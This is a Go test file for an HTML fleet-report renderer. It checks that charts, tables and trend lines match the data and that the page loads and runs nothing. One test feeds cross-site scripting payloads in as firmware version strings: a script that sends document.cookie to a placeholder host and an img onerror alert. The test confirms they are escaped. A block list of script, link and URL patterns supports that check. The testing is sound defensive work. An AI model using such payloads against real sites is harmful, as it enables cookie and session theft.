package report_test

import (
	"bytes"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"github.com/fleetflow/fleetflow/internal/fleet"
	"github.com/fleetflow/fleetflow/internal/registry"
	"github.com/fleetflow/fleetflow/internal/report"
)

// page renders d and parses it as a browser would.
func page(t *testing.T, d report.Data) (string, *html.Node) {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, report.HTML(&b, d))
	doc, err := html.Parse(bytes.NewReader(b.Bytes()))
	require.NoError(t, err)
	return b.String(), doc
}

func attr(n *html.Node, key string) (string, bool) {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val, true
		}
	}
	return "", false
}

// find returns the elements under n (n included) for which match is true, in document order.
func find(n *html.Node, match func(*html.Node) bool) []*html.Node {
	var out []*html.Node
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode && match(n) {
			out = append(out, n)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(n)
	return out
}

// with matches elements named tag ("" for any) whose attribute key is val ("" for any value).
func with(tag, key, val string) func(*html.Node) bool {
	return func(n *html.Node) bool {
		if tag != "" && n.Data != tag {
			return false
		}
		if key == "" {
			return true
		}
		v, ok := attr(n, key)
		return ok && (val == "" || v == val)
	}
}

func one(t *testing.T, n *html.Node, match func(*html.Node) bool) *html.Node {
	t.Helper()
	all := find(n, match)
	require.Len(t, all, 1)
	return all[0]
}

func textOf(n *html.Node) string {
	var b strings.Builder
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(n)
	return b.String()
}

func num(t *testing.T, s string) float64 {
	t.Helper()
	f, err := strconv.ParseFloat(s, 64)
	require.NoError(t, err, "%q", s)
	return f
}

// chartBars reads a bar chart's bars as (label, value) and checks that each bar's tooltip states its count
// and that bar lengths are proportional to the values.
func chartBars(t *testing.T, doc *html.Node, chart string) []report.Bar {
	t.Helper()
	svg := one(t, doc, with("svg", "data-chart", chart))
	var bars []report.Bar
	var top int64
	var topW float64
	groups := find(svg, with("g", "data-value", ""))
	for _, g := range groups {
		label, _ := attr(g, "data-label")
		v, _ := attr(g, "data-value")
		n := int64(num(t, v))
		bars = append(bars, report.Bar{Label: label, Value: n, Other: strings.Contains(g.Attr[0].Val, "other")})
		require.Contains(t, textOf(one(t, g, with("title", "", ""))), report.Thousands(n), "tooltip of %s", label)
		if n > top {
			top = n
			w, _ := attr(one(t, g, with("rect", "", "")), "width")
			topW = num(t, w)
		}
	}
	for _, g := range groups {
		v, _ := attr(g, "data-value")
		w, _ := attr(one(t, g, with("rect", "", "")), "width")
		if n := num(t, v); n > 0 {
			require.InDelta(t, n/float64(top)*topW, num(t, w), 1.05, "bar of %v", n)
		} else {
			require.Equal(t, "0.0", w)
		}
	}
	return bars
}

func TestHTMLChartsShowTheData(t *testing.T) {
	d := sample()
	raw, doc := page(t, d)

	title := one(t, one(t, doc, with("head", "", "")), with("title", "", ""))
	require.Equal(t, "Fleet report — 2025-06-01 12:00:00 UTC", textOf(title))

	for metric, want := range map[string]int64{"total": 1_000_000, "active": 990_000, "disabled": 9_000,
		"retired": 1_000, "online": 712_345, "offline": 286_655} {
		tile := one(t, doc, with("div", "data-metric", metric))
		require.Equal(t, report.Thousands(want), textOf(one(t, tile, with("span", "class", "num"))), metric)
	}

	require.Equal(t, report.FirmwareBars(d.Firmware), chartBars(t, doc, "firmware"))
	alerts := chartBars(t, doc, "alerts")
	require.Len(t, alerts, len(d.Alerts))
	for i, a := range d.Alerts {
		require.Equal(t, report.Bar{Label: string(a.Kind), Value: a.Open}, alerts[i])
	}
	// The tables repeat the charts' numbers as text.
	for _, table := range []string{"firmware", "alerts"} {
		rows := find(one(t, doc, with("table", "data-table", table)), with("tr", "", ""))
		want := report.FirmwareBars(d.Firmware)
		if table == "alerts" {
			want = alerts
		}
		require.Len(t, rows, len(want))
		for i, row := range rows {
			cells := find(row, with("td", "", ""))
			require.Equal(t, want[i].Label, textOf(cells[0]))
			require.Equal(t, report.Thousands(want[i].Value), textOf(cells[1]))
		}
	}

	// Health trend: one line chart per series, a point per run with its value and time.
	trends := report.HealthTrends(d.Health)
	svgs := find(doc, with("svg", "data-chart", "health"))
	require.Len(t, svgs, len(trends))
	for i, tr := range trends {
		series, _ := attr(svgs[i], "data-series")
		require.Equal(t, tr.Name, series)
		dots := find(svgs[i], with("circle", "data-value", ""))
		require.Len(t, dots, len(tr.Values))
		var lo float64 = 1e18
		for j, dot := range dots {
			v, _ := attr(dot, "data-value")
			require.Equal(t, tr.Values[j], int64(num(t, v)), "%s point %d", tr.Name, j)
			at, _ := attr(dot, "data-time")
			when, err := time.Parse(time.RFC3339, at)
			require.NoError(t, err)
			require.True(t, d.Health[j].StartedAt.Equal(when))
			require.Contains(t, textOf(dot), report.Thousands(tr.Values[j]))
			cy, _ := attr(dot, "cy")
			lo = min(lo, num(t, cy))
		}
		// Higher values are drawn higher (smaller y).
		var maxIdx int
		for j, v := range tr.Values {
			if v > tr.Values[maxIdx] {
				maxIdx = j
			}
		}
		cy, _ := attr(dots[maxIdx], "cy")
		require.Equal(t, lo, num(t, cy), "%s: the largest value is the highest point", tr.Name)
	}
	rows := find(one(t, doc, with("table", "data-table", "health")), with("tr", "", ""))
	require.Len(t, rows, 1+len(d.Health))
	last := d.Health[len(d.Health)-1].Summary
	var cells []string
	for _, td := range find(rows[len(rows)-1], with("td", "", "")) {
		cells = append(cells, textOf(td))
	}
	require.Equal(t, []string{"2025-06-01 11:00", report.Thousands(last.Online), report.Thousands(last.Offline),
		report.Thousands(last.Open), "healthcheck-11"}, cells)

	// Operations: a row per operation with its counters, and a progress bar drawn to scale.
	ops := find(doc, with("tr", "data-op", ""))
	require.Len(t, ops, len(d.Operations))
	for i, o := range d.Operations {
		id, _ := attr(ops[i], "data-op")
		require.Equal(t, o.ID, id)
		for key, want := range map[string]int64{"data-done": o.Done, "data-failed": o.Failed, "data-total": o.Total} {
			v, _ := attr(ops[i], key)
			require.Equal(t, strconv.FormatInt(want, 10), v, "%s %s", o.ID, key)
		}
		require.Contains(t, textOf(ops[i]), o.Op)
		if o.Total == 0 {
			require.Empty(t, find(ops[i], with("rect", "class", "done")))
			continue
		}
		done, failed := o.Progress()
		w, _ := attr(one(t, ops[i], with("rect", "class", "done")), "width")
		require.InDelta(t, done*160, num(t, w), 0.06)
		w, _ = attr(one(t, ops[i], with("rect", "class", "failed")), "width")
		require.InDelta(t, failed*160, num(t, w), 0.06)
	}

	assertSelfContained(t, raw, doc)
}

// assertSelfContained checks that the page runs nothing and loads nothing: no script, no event handler,
// no external URL, no font or stylesheet to fetch.
func assertSelfContained(t *testing.T, raw string, doc *html.Node) {
	t.Helper()
	lower := strings.ToLower(raw)
	for _, bad := range []string{"<script", "http://", "https://", "@import", "url(", "@font-face", "<link", "<iframe", "<img", "javascript:"} {
		require.NotContains(t, lower, bad)
	}
	assertNoActiveElements(t, doc)
}

// assertNoActiveElements checks the parsed page, as a browser sees it, for elements and attributes that
// run code or fetch something.
func assertNoActiveElements(t *testing.T, doc *html.Node) {
	t.Helper()
	for _, n := range find(doc, func(*html.Node) bool { return true }) {
		switch n.Data {
		case "script", "img", "link", "iframe", "object", "embed", "image", "use", "foreignObject", "foreignobject":
			t.Errorf("<%s> element", n.Data)
		}
		for _, a := range n.Attr {
			require.False(t, strings.HasPrefix(a.Key, "on"), "event handler %s on <%s>", a.Key, n.Data)
			if a.Key == "src" || a.Key == "href" || a.Key == "xlink:href" {
				t.Errorf("<%s %s=%q> refers to a resource", n.Data, a.Key, a.Val)
			}
		}
	}
}

func TestHTMLEscapesDeviceChosenVersions(t *testing.T) {
	d := empty()
	evil := `<script>fetch("https://x.example/"+document.cookie)</script>`
	d.Firmware = []registry.VersionCount{{Version: evil, Devices: 5}, {Version: `"><img src=x onerror=alert(1)>`, Devices: 1}}
	raw, doc := page(t, d)
	// The version's text may say "https://", as text; what matters is that nothing became an element.
	assertNoActiveElements(t, doc)
	require.NotContains(t, strings.ToLower(raw), "<script")
	require.NotContains(t, strings.ToLower(raw), "<img")
	bars := chartBars(t, doc, "firmware")
	require.Equal(t, evil, bars[0].Label, "the label survives as text")
}

func TestHTMLEmptyFleetAndNoTemporal(t *testing.T) {
	raw, doc := page(t, empty())
	assertSelfContained(t, raw, doc)
	require.Equal(t, "No devices.", textOf(one(t, doc, with("p", "data-chart", "firmware"))))
	require.Len(t, find(doc, with("g", "data-value", "0")), 2, "both alert kinds, at zero")
	one(t, doc, with("p", "data-operations", "none"))
	require.Empty(t, find(doc, with("svg", "data-chart", "health")))
	require.Contains(t, raw, "no health check has run yet")

	d := sample()
	d.Operations, d.OperationsError = nil, "connect to temporal at 127.0.0.1:7233: connection refused"
	_, doc = page(t, d)
	p := one(t, doc, with("p", "data-operations", "unavailable"))
	require.Contains(t, textOf(p), "connection refused")
	require.Len(t, find(doc, with("svg", "data-chart", "health")), 3, "the rest of the report is there")
}

func TestHTMLGolden(t *testing.T) {
	raw, _ := page(t, sample())
	golden(t, "report.html", raw)
}

// Health rules get a table of their own in the page, only when there are rules.
func TestHTMLHealthRules(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, report.HTML(&b, sample()))
	require.NotContains(t, b.String(), `data-table="health-rules"`)
	d := sample()
	d.HealthRules = []registry.HealthRuleView{{HealthRule: fleet.HealthRule{Name: "critical", Query: fleet.GroupQuery("gw"), Group: "gw"},
		LastRun: &registry.HealthRun{StartedAt: at, Summary: fleet.HealthSummary{Devices: 1_200, Open: 7,
			Problems: map[string]int64{string(registry.AlertOffline): 5}}}}}
	b.Reset()
	require.NoError(t, report.HTML(&b, d))
	out := b.String()
	require.Contains(t, out, `data-table="health-rules"`)
	require.Regexp(t, `<tr data-rule="critical"><td>critical</td><td class="note">group gw</td><td><time datetime="[^"]+">2025-06-01 12:00</time></td><td class="n">1,200</td><td class="n">5</td>`, out)
}
